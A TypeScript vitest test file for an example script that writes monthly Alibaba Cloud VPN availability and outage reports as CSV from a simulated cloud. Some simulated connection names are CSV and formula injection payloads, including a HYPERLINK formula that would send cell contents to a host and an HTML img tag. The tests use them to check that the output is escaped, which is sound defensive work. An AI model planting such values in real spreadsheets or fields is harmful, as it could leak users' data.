import { readFileSync } from 'node:fs';
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import type { Simulator } from 'alicloud-vpn-monitor/testing';
import { setupServer } from 'msw/node';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest';
import { month, reportedAt, simulatedMonth, trueOutages } from '../support/simulated-month.ts';

const guide = readFileSync(join(import.meta.dirname, '../../docs/reports.md'), 'utf8');
let cloud: Simulator;
let service: ReturnType<typeof setupServer>;
let folder: string;
const printed: string[] = [];
const errors: string[] = [];

beforeAll(() => {
  cloud = simulatedMonth();
  service = setupServer(...cloud.handlers());
  service.listen({ onUnhandledRequest: 'error' });
});

afterAll(() => {
  service.close();
});

beforeEach(async () => {
  // It need not be there.
  folder = join(await mkdtemp(join(tmpdir(), 'report-')), 'reports');
  vi.resetModules();
  vi.useFakeTimers({ toFake: ['Date'], now: reportedAt });
  vi.stubEnv('ALIBABA_CLOUD_ACCESS_KEY_ID', cloud.credentials.accessKeyId);
  vi.stubEnv('ALIBABA_CLOUD_ACCESS_KEY_SECRET', cloud.credentials.accessKeySecret);
  printed.length = errors.length = 0;
  vi.spyOn(console, 'log').mockImplementation((...parts: unknown[]) => void printed.push(parts.join(' ')));
  vi.spyOn(console, 'error').mockImplementation((...parts: unknown[]) => void errors.push(parts.join(' ')));
});

afterEach(async () => {
  vi.useRealTimers();
  vi.unstubAllEnvs();
  vi.restoreAllMocks();
  await rm(dirname(folder), { recursive: true });
});

async function run(...options: string[]): Promise<void> {
  const { argv } = process;
  process.argv = [...argv.slice(0, 2), ...options];
  try {
    await import('../../docs/examples/monthly-report.ts');
  } finally {
    process.argv = argv;
  }
}

/** The rows of a file by its columns, read as RFC 4180 says. */
async function rowsOf(name: string): Promise<Record<string, string>[]> {
  const text = await readFile(join(folder, name), 'utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  field.lastIndex = 1;
  const rows: string[][] = [[]];
  for (let match = field.exec(text); match; match = field.exec(text)) {
    rows.at(-1)!.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
    if (match[3] === '\r\n') rows.push([]);
    if (field.lastIndex === text.length) break;
  }
  expect(rows.pop()).toEqual([]);
  const [columns = [], ...rest] = rows;
  for (const row of rest) expect(row).toHaveLength(columns.length);
  return rest.map((row) => Object.fromEntries(columns.map((column, index) => [column, row[index] ?? ''])));
}

const idOf = ({ tunnel_id, connection_id }: Record<string, string>): string | undefined => (tunnel_id === '' ? connection_id : tunnel_id);

describe('monthly-report.ts', () => {
  test('writes the month that is over, in the zone that is named, and the truth of it', async () => {
    await run('--offset', month.offset, '--folder', folder);
    expect(printed).toEqual(['2026-10: 4 connections, 7 tunnels']);
    expect(errors.at(-1)).toBe('2026-10: 100 % read');
    expect(errors.some((text) => text.includes('not over'))).toBe(false);

    // The guide's arithmetic: a call for 1,440 points, and one for a day's events.
    const count = (action: string): number => cloud.calls.filter((call) => call.action === action).length;
    const full = (7 * (month.to - month.from)) / 300_000 / 1_440;
    expect(count('DescribeMetricList')).toBeGreaterThanOrEqual(full);
    expect(count('DescribeMetricList')).toBeLessThan(full + 7);
    expect(count('DescribeSystemEventAttribute')).toBeLessThan(31 + 5);

    const outages = await rowsOf('vpn-2026-10-outages.csv');
    for (const id of ['tun-berlin-1', 'tun-berlin-2', 'vco-paris', 'tun-quiet-1', 'tun-quiet-2', 'tun-new-1', 'tun-new-2']) {
      const reported = outages
        .filter((row) => idOf(row) === id)
        .map(({ from = '', to = '' }) => ({ from: Date.parse(from), to: to === '' ? undefined : Date.parse(to) }));
      expect(reported, id).toEqual(trueOutages(cloud, id));
    }
    const berlin = outages.filter((row) => row['connection_id'] === 'vco-berlin');
    const both = { from: '2026-10-22T00:00:00+08:00', to: '2026-10-22T09:00:00+08:00', minutes: '540', end: 'recovered' };
    expect(berlin.filter(({ kind }) => kind === 'connection')).toMatchObject([both]);
    const before = {
      tunnel_id: 'tun-berlin-1',
      from: '2026-10-01T00:00:00+08:00',
      to: '2026-10-01T03:00:00+08:00',
      began_before: 'yes',
      end: 'recovered',
    };
    expect(berlin.filter((row) => row['began_before'] === 'yes')).toMatchObject([before]);
    const ongoing = {
      tunnel_id: 'tun-berlin-2',
      from: '2026-10-31T23:20:00+08:00',
      to: '',
      minutes: '40',
      began_before: 'no',
      end: 'goes on',
    };
    expect(berlin.filter(({ to }) => to === '')).toMatchObject([ongoing]);
    expect(outages.filter((row) => row['connection_id'] === 'vco-paris').map((row) => row['phase'])).toEqual([
      'phase2',
      ...Array<string>(20).fill('phase1'),
    ]);

    // The rows that the guide shows are those of this month.
    const texts = await Promise.all(['vpn-2026-10.csv', 'vpn-2026-10-outages.csv'].map((name) => readFile(join(folder, name), 'utf8')));
    const written = texts.join('').split(/\uFEFF|\r\n/);
    const shown = [...guide.matchAll(/^```csv\n([\s\S]*?)^```/gm)].flatMap(([, block = '']) => block.trim().split('\n'));
    expect(shown).toHaveLength(6);
    expect(written).toEqual(expect.arrayContaining(shown));

    const rows = await rowsOf('vpn-2026-10.csv');
    const tunnels = ['tun-berlin-1', 'tun-berlin-2', 'tun-new-1', 'tun-new-2', 'tun-quiet-1', 'tun-quiet-2'];
    expect(rows.map(idOf).sort()).toEqual([...tunnels, 'vco-berlin', 'vco-new', 'vco-paris', 'vco-quiet']);
    const total = (month.to - month.from) / 60_000;
    for (const row of rows) {
      const minutes = ['up_minutes', 'degraded_minutes', 'down_minutes', 'unknown_minutes'].map((column) => Number(row[column]));
      expect(
        minutes.reduce((sum, value) => sum + value, 0),
        idOf(row),
      ).toBeCloseTo(total, 1);
      const own = outages.filter((outage) => idOf(outage) === idOf(row)).map((outage) => Number(outage['minutes']));
      expect(Number(row['outages']), idOf(row)).toBe(own.length);
      expect(Number(row['longest_outage_minutes']), idOf(row)).toBe(Math.max(0, ...own));
      expect(Number(row['availability']), idOf(row)).toBeCloseTo(minutes[0]! / (minutes[0]! + minutes[1]! + minutes[2]!), 6);
    }
    const rowOf = (id: string): Record<string, string> | undefined => rows.find((row) => idOf(row) === id);
    expect(rowOf('vco-berlin')).toMatchObject({ connection_name: 'Berlin', gateway_name: 'edge', down_minutes: '540' });
    expect(rowOf('vco-paris')).toMatchObject({
      kind: 'connection',
      tunnel_id: '',
      outages: '21',
      connection_name: '<img src="http://127.0.0.1:9/paris.png">',
    });
    expect(rowOf('vco-quiet')).toMatchObject({
      connection_name: '\'=HYPERLINK("http://127.0.0.1:9/?"&A1,"open")',
      gateway_name: '\' -2+3, "安静"',
    });
    expect(rowOf('vco-new')).toMatchObject({ gateway_id: 'tr-1', availability: '1', connection_name: "'@SUM(1,2)" });
    expect(Number(rowOf('vco-new')?.['unknown_minutes'])).toBeCloseTo(10 * 1_440, -1);
  }, 60_000);

  test('says that a month is not over, and asks the region that is named', async () => {
    vi.setSystemTime(month.to - 86_400_000);
    await expect(run('--month', '2026-10', '--offset', month.offset, '--folder', folder, '--region', 'cn-nowhere')).rejects.toThrow(
      /DescribeVpnConnections failed: Inval/,
    );
    expect(errors[0]).toBe('2026-10 is not over: the report ends now');
  }, 60_000);

  test('writes the month that is named', async () => {
    await run('--month', '2026-09', '--offset=-05:00', '--folder', folder);
    const rows = await rowsOf('vpn-2026-09.csv');
    expect(rows).toHaveLength(10);
    // It did not exist yet: nothing is known of it, which is neither 0 nor 1.
    expect(rows.find((row) => idOf(row) === 'vco-new')).toMatchObject({
      availability: '',
      up_minutes: '0',
      down_minutes: '0',
      unknown_minutes: '43200',
      outages: '0',
    });
    const whole = { tunnel_id: 'tun-berlin-1', from: '2026-09-30T09:00:00-05:00', to: '2026-09-30T14:00:00-05:00', began_before: 'no' };
    expect(await rowsOf('vpn-2026-09-outages.csv')).toMatchObject([whole]);
  }, 60_000);

  test.each([
    [['--month', '2026-13'], '--month 2026-13 must be like 2026-10'],
    [['--month', '10/2026'], '--month 10/2026 must be like 2026-10'],
    [['--offset', 'CST'], '--offset CST must be like +08:00'],
    [['--zone', '+08:00'], "Unknown option '--zone'"],
  ])('refuses %j', async (options, message) => {
    const calls = cloud.calls.length;
    await expect(run(...options, '--folder', folder)).rejects.toThrow(message);
    expect(cloud.calls).toHaveLength(calls);
  });

  test.each(['DescribeMetricList', 'DescribeSystemEventAttribute'])(
    'writes nothing where %s fails in the middle of the month',
    async (action) => {
      const failure = cloud.fail({ action, status: 403, skip: 5, times: Infinity });
      try {
        await expect(run('--folder', folder)).rejects.toMatchObject({ code: 'forbidden' });
      } finally {
        failure.stop();
      }
      expect(failure.hits).toBeGreaterThan(0);
      expect(await readdir(folder)).toEqual([]);
      expect(printed).toEqual([]);
    },
    60_000,
  );
});
